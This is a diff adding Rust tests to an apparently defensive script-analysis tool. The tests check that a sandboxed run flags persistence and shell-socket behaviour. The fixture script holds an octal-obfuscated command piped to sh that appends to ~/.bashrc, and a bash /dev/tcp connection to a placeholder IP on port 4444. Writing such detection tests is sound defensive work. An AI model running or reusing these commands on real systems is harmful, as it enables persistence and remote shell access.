@@ -278,3 +278,87 @@ fn sigma_process_creation_rules_run_on_the_decoded_command() {
         .failure();
     assert!(String::from_utf8_lossy(&missing.get_output().stderr).contains("no such rule"));
 }
+
+/// Whether the sandbox can run here (CI sets `WARDEN_REQUIRE_SANDBOX`, where it must).
+fn sandbox_available() -> bool {
+    let ok = warden_sandbox::Sandbox::new(warden_sandbox::SandboxConfig::default())
+        .and_then(|s| s.run("true", warden_payload::Shell::Sh))
+        .map_err(|e| e.to_string());
+    match ok {
+        Ok(_) => true,
+        Err(e) if std::env::var_os("WARDEN_REQUIRE_SANDBOX").is_none() => {
+            eprintln!("skipped: the sandbox cannot run here ({e})");
+            false
+        }
+        Err(e) => panic!("the sandbox is required here and cannot run: {e}"),
+    }
+}
+
+#[test]
+fn a_sandboxed_run_adds_what_the_script_did() {
+    if !sandbox_available() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let script = dir.path().join("drop.sh");
+    // Decoded only when it runs: `printf` of octal escapes piped to sh.
+    std::fs::write(
+        &script,
+        "printf '\\145\\143\\150\\157 \\172 >> ~/.bashrc' | sh\nexec 3<>/dev/tcp/198.51.100.23/4444\n",
+    )
+    .unwrap();
+    let out = warden()
+        .args(["analyze", "--sandbox", "--shell", "bash"])
+        .arg(&script)
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let v = json(&out);
+    let trace = &v["trace"];
+    let ids: Vec<&str> = trace["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["id"].as_str())
+        .collect();
+    assert!(ids.contains(&"persistence-write"), "{ids:?}");
+    assert!(ids.contains(&"shell-socket"), "{ids:?}");
+    let conn = &trace["behaviour"]["connections"][0];
+    assert_eq!(conn["address"], "198.51.100.23");
+    assert_eq!(conn["port"], 4444);
+    assert!(
+        v["views"]["dynamic"].as_f64().unwrap() > 80.0,
+        "{}",
+        v["views"]
+    );
+    assert!(
+        v["explanation"]
+            .as_str()
+            .unwrap()
+            .contains("In the sandbox")
+    );
+    // PowerShell is analysed statically, with the reason given.
+    let out = warden()
+        .args([
+            "analyze",
+            "--sandbox",
+            "--shell",
+            "powershell",
+            "--text",
+            "Get-Process",
+        ])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let v = json(&out);
+    assert_eq!(v["views"]["dynamic"], serde_json::Value::Null);
+    assert!(
+        v["notes"][0].as_str().unwrap().contains("statically"),
+        "{}",
+        v["notes"]
+    );
+}
